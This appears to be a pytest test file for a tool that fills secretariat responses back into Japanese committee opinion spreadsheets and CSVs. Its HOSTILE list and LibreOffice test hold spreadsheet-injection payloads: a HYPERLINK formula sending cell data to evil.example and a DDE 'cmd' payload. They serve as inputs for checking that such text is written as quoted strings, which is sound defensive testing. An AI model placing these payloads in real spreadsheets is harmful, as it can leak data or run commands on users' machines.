"""The 意見対応表 written back into the original sheet: filled cells, kept layout, no formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from planrev.importers.sheets import import_opinions
from planrev.render.sheet_writeback import write_filled_sheet
from planrev.storage.documents import load_opinions
from planrev_console.main import main
from tests.sheets_support import DRAFTS, committee_workbook, drafts_copy, saved, snapshot
from tests.tools import require_tool, run_tool

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "+81-17-000-0000",
    "-3%の削減",
    "@SUM(A1:A2)",
    "\tタブで始まる",
    "\r復帰で始まる",
]
"""Responses a spreadsheet could take for formulas or commands."""


def _imported(tmp_path: Path) -> tuple[Path, Path]:
    sheet = saved(committee_workbook(), tmp_path / "意見照会票.xlsx")
    folder = drafts_copy(tmp_path)
    import_opinions(sheet, folder, meeting=4)
    return sheet, folder


def _answer(folder: Path, answers: dict[str, tuple[str, str]]) -> None:
    """Set dispositions and responses in the folder's opinions-04.yaml (as a secretariat would)."""
    path = folder / "opinions-04.yaml"
    opinions = load_opinions(path)
    from planrev.model import Disposition
    from planrev.storage.documents import dump_document

    changed = tuple(
        opinion.model_copy(
            update={
                "disposition": Disposition(answers[opinion.id][0]),
                "response": answers[opinion.id][1],
            }
        )
        if opinion.id in answers
        else opinion
        for opinion in opinions.opinions
    )
    path.write_text(
        dump_document(opinions.model_copy(update={"opinions": changed})), encoding="utf-8"
    )


def test_responses_are_filled_into_the_sheets_own_cells(tmp_path: Path) -> None:
    sheet, folder = _imported(tmp_path)
    _answer(
        folder,
        {
            "op-1-3": ("今後検討", "研修の支援は実施計画で検討します。"),
            "op-2-1": ("反映", "追記します。"),
        },
    )
    out = tmp_path / "filled.xlsx"
    filled = write_filled_sheet(folder, sheet, out)
    assert filled.filled == 7
    workbook = openpyxl.load_workbook(out)
    first = workbook["意見照会票"]
    assert first["E8"].value == "今後検討"
    assert first["F8"].value == "研修の支援は実施計画で検討します。"
    assert (
        first["E7"].value == "ご意見を踏まえ修正します"
    )  # the sheet's wording, meaning 反映, stays
    assert first["E9"].value is None  # still 未定: left as the sheet has it
    member = workbook["三沢委員"]
    assert (member["E5"].value, member["F5"].value) == ("反映", "追記します。")
    # The layout stays: titles, merges, the date line, the note, widths, borders, other sheets.
    assert {str(r) for r in first.merged_cells.ranges} == {"A1:F1", "A2:F2", "B6:B7"}
    assert first["F3"].value == "令和5年8月10日"
    assert first["A13"].value == "※対応・事務局の考え方の欄は事務局が記入します。"
    assert first.column_dimensions["D"].width == 48
    assert first["F8"].border.left.style == "thin"
    assert first["F8"].alignment.wrap_text
    assert workbook.sheetnames == ["意見照会票", "三沢委員", "選択肢"]
    assert workbook["選択肢"].sheet_state == "hidden"


def test_a_sheet_without_response_columns_gets_them(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["番号", "該当箇所", "意見"])
    sheet.append(["1", "デジタル人材", "人材の確保を"])
    original = saved(workbook, tmp_path / "plain.xlsx")
    folder = drafts_copy(tmp_path)
    import_opinions(original, folder, meeting=4)
    _answer(folder, {"op-1": ("一部反映", "一部を追記しました。")})
    out = tmp_path / "filled.xlsx"
    write_filled_sheet(folder, original, out)
    filled = openpyxl.load_workbook(out).active
    assert filled is not None
    assert [cell.value for cell in filled[1]] == [
        "番号",
        "該当箇所",
        "意見",
        "対応",
        "事務局の考え方",
    ]
    assert [cell.value for cell in filled[2]][3:] == ["一部反映", "一部を追記しました。"]


def test_rows_and_opinions_that_do_not_match_are_reported(tmp_path: Path) -> None:
    sheet, folder = _imported(tmp_path)
    path = folder / "opinions-04.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("id: op-1-3", "id: renamed")  # matched still, by its text
    text = text.replace(
        "市町村職員の研修を県が支援してほしい", "市町村職員の研修を県が支援してほしい。"
    )
    text = text.replace("id: op-2-2", "id: op-x")
    path.write_text(text, encoding="utf-8")
    filled = write_filled_sheet(folder, sheet, tmp_path / "out.xlsx")
    codes = sorted(finding.code for finding in filled.findings)
    assert codes == ["opinion-not-in-sheet", "sheet-row-unmatched"]
    unmatched = next(f for f in filled.findings if f.code == "sheet-row-unmatched")
    assert unmatched.location is not None
    assert unmatched.location.line == 8
    assert filled.filled == 6


def test_the_output_is_never_an_input_and_never_overwritten_without_force(tmp_path: Path) -> None:
    sheet, folder = _imported(tmp_path)
    before = sheet.read_bytes()
    runner = CliRunner()
    result = runner.invoke(
        main,
        [
            "export",
            "opinions",
            str(folder),
            "--original",
            str(sheet),
            "--out",
            str(sheet),
            "--force",
        ],
    )
    assert result.exit_code == 4
    assert sheet.read_bytes() == before
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"mine")
    arguments = ["export", "opinions", str(folder), "--original", str(sheet), "--out", str(out)]
    assert runner.invoke(main, arguments).exit_code == 4
    assert out.read_bytes() == b"mine"
    result = runner.invoke(main, [*arguments, "--force"])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(out)["意見照会票"]["D6"].value.startswith("民間の働き方")


def test_formula_like_text_is_written_as_quoted_strings(tmp_path: Path) -> None:
    sheet, folder = _imported(tmp_path)
    answers = {f"op-1-{n}": ("反映", text) for n, text in enumerate(HOSTILE[:5], start=1)}
    answers["op-2-1"] = ("反映", HOSTILE[5])
    _answer(folder, answers)
    out = tmp_path / "filled.xlsx"
    write_filled_sheet(folder, sheet, out)
    workbook = openpyxl.load_workbook(out)
    cells = [workbook["意見照会票"][f"F{row}"] for row in range(6, 11)] + [
        workbook["三沢委員"]["F5"]
    ]
    assert [cell.value for cell in cells] == HOSTILE
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)


def _calc_csv(soffice: str, path: Path, out: Path) -> list[list[str]]:
    run_tool(
        [soffice, "--headless", "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1',
         "--outdir", str(out), str(path)],
        capture_output=True,
    )  # fmt: skip
    text = (out / (path.stem + ".csv")).read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.tools
def test_libreoffice_reads_every_cell_as_typed(tmp_path: Path) -> None:
    soffice = require_tool("soffice")
    workbook = committee_workbook()
    workbook["意見照会票"]["B8"].value = "=cmd|' /C calc'!A0"  # a hostile name in the sheet itself
    workbook["意見照会票"]["B8"].data_type = "s"
    sheet = saved(workbook, tmp_path / "original.xlsx")
    folder = drafts_copy(tmp_path)
    import_opinions(sheet, folder, meeting=4)
    answers = {f"op-1-{n}": ("反映", text) for n, text in enumerate(HOSTILE[:5], start=1)}
    _answer(folder, answers)
    out = tmp_path / "filled.xlsx"
    write_filled_sheet(folder, sheet, out)
    typed = openpyxl.load_workbook(out)["意見照会票"]
    read = _calc_csv(soffice, out, tmp_path / "calc")
    for row in typed.iter_rows():
        for cell in row:
            if cell.value is None or cell.coordinate in {"B7"}:  # B7: inside the merge B6:B7
                continue
            shown = read[cell.row - 1][cell.column - 1]
            # CSV has no carriage returns of its own inside a cell: Calc writes them as they are.
            assert shown == str(cell.value), cell.coordinate
    assert read[7][1] == "=cmd|' /C calc'!A0"
    assert [read[row][5] for row in range(5, 10)] == HOSTILE[:5]


def test_a_csv_sheet_is_written_back_in_its_encoding(tmp_path: Path) -> None:
    text = "番号,該当箇所,意見,対応,考え方\r\n1,デジタル人材,人材の確保を,,\r\n2,データの利活用,整理を,,\r\n"
    original = tmp_path / "iken.csv"
    original.write_bytes(text.encode("cp932"))
    folder = drafts_copy(tmp_path)
    import_opinions(original, folder, meeting=4)
    _answer(
        folder,
        {"op-1": ("反映", "=1+1 ではなく追記"), "op-2": ("記載済み", "既に記載しています。")},
    )
    out = tmp_path / "filled.csv"
    write_filled_sheet(folder, original, out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("cp932"), newline="")))
    assert rows[1] == ["1", "デジタル人材", "人材の確保を", "反映", "'=1+1 ではなく追記"]
    assert rows[2] == ["2", "データの利活用", "整理を", "記載済み", "既に記載しています。"]


def test_a_character_the_csv_encoding_cannot_hold_writes_nothing(tmp_path: Path) -> None:
    original = tmp_path / "iken.csv"
    original.write_bytes("番号,意見,考え方\r\n1,意見です,\r\n".encode("cp932"))
    folder = drafts_copy(tmp_path)
    import_opinions(original, folder, meeting=4)
    _answer(folder, {"op-1": ("反映", "𠮷野家の例")})
    out = tmp_path / "filled.csv"
    result = CliRunner().invoke(
        main, ["export", "opinions", str(folder), "--original", str(original), "--out", str(out)]
    )
    assert result.exit_code == 4
    assert "𠮷" in result.output
    assert not out.exists()


def test_the_reflected_column_is_filled_from_the_folders_revision(tmp_path: Path) -> None:
    folder = drafts_copy(tmp_path, with_opinions=True)
    opinions = load_opinions(DRAFTS / "opinions-03.yaml")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["番号", "意見", "対応", "事務局の考え方", "反映箇所"])
    for number, opinion in enumerate(opinions.opinions, start=1):
        sheet.append([str(number), opinion.text])
    original = saved(workbook, tmp_path / "heard.xlsx")
    before = snapshot(folder)
    write_filled_sheet(folder, original, tmp_path / "filled.xlsx", meeting=3)
    assert snapshot(folder) == before
    filled = openpyxl.load_workbook(tmp_path / "filled.xlsx").active
    assert filled is not None
    assert filled["C2"].value == "反映"
    assert filled["E2"].value == "追加①(行政経営分野)"
    assert filled["E7"].value is None  # op-inclusion-2 changed nothing
